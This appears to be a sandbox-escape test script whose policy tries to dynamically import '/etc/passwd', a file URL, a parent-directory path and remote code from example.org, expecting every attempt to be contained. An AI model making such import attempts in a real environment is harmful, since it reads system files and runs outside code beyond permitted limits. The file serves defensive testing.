// attack: a file, imported while the policy runs
// contained: asked
export const policy = { api: 1 };

export function onBegin(ctx) {
  for (const file of ['/etc/passwd', 'file:///etc/passwd', '../x.js', 'https://example.org/x.js']) {
    import(file).then((module) => ctx.log('GOT THROUGH ' + module), () => {});
  }
  ctx.log('asked');
}
